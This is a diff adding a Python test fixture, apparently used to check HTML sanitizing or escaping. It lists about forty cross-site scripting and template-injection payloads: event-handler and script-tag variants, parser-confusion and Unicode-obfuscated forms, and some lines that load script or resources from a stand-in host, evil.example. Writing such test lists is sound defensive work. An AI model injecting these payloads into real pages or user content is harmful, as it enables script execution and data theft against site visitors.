@@ -1,0 +1,51 @@
+"""Texts that would run, ask another host or leave their place, if a page took one for more than text."""
+
+from __future__ import annotations
+
+_RUN = "window.__hacked=1"
+_ELSEWHERE = "http://evil.example"
+
+PAYLOADS = [
+    f"<script>{_RUN}</script>",
+    f"</script><script>{_RUN}</script>",
+    f"<ScRiPt>{_RUN}</sCrIpT >",
+    f"<script src={_ELSEWHERE}/x.js></script>",
+    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img src={_ELSEWHERE}/pixel.png>",
+    f'"><img src=x onerror="{_RUN}">',
+    f"'><img src=x onerror='{_RUN}'>",
+    f"<svg onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
+    f"<body onload={_RUN}>",
+    f"<iframe src=javascript:{_RUN}></iframe>",
+    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
+    f"<object data={_ELSEWHERE}/x.swf></object>",
+    f"<embed src={_ELSEWHERE}/x.swf>",
+    f"<link rel=stylesheet href={_ELSEWHERE}/x.css>",
+    f"<style>@import '{_ELSEWHERE}/x.css';body{{background:url({_ELSEWHERE}/b.png)}}</style>",
+    f'<div style="background:url({_ELSEWHERE}/c.png)">x</div>',
+    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
+    f"<base href={_ELSEWHERE}/>",
+    f"<a href=javascript:{_RUN} autofocus onfocus={_RUN}>x</a>",
+    f"<form action={_ELSEWHERE}><input autofocus onfocus={_RUN}><button>x</button></form>",
+    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<template><img src=x onerror={_RUN}></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
+    f"<!--><img src=x onerror={_RUN}>-->",
+    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
+    f"javascript:{_RUN}",
+    f"[click](javascript:{_RUN}) ![]({_ELSEWHERE}/md.png)",
+    "{{ 7*7 }} {{ ''.__class__.__mro__ }} {% raw %}",
+    f"${{{_RUN}}} #{{7*7}} <%= 7*7 %> {{{{constructor.constructor('{_RUN}')()}}}}",
+    f"{{name}} {{n}} {{second}} $& $` $1 <b>{_RUN}</b>",
+    f"';{_RUN};//",
+    f"\\u003cimg src=x onerror={_RUN}\\u003e &lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"\u2028{_RUN}\u2029//",
+    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
+    f"\u202e>tpircs/<1=dekcah__.wodniw>tpircs< \u2066<img src=x onerror={_RUN}>\u2069",
+    f"\ufeff<\x0bimg\x0csrc=x\tonerror={_RUN}>",
+]
